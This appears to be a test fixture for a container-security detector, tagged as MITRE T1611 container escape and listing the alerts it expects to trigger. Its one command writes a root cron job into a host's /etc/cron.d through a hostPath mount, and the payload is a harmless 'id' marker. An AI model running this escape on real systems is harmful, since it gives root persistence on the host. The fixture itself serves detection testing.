# category: container-escape
# technique: T1611
# art: no
# developed: yes
# expect: host-mount-sensitive-write cron-modified
# setup: hostdir
# desc: a container with the node's /etc mounted (hostPath) drops a cron job into it, to run on the host
echo '* * * * * root /bin/sh -c "id > /tmp/pwned"' > /host-etc/cron.d/exray-eval
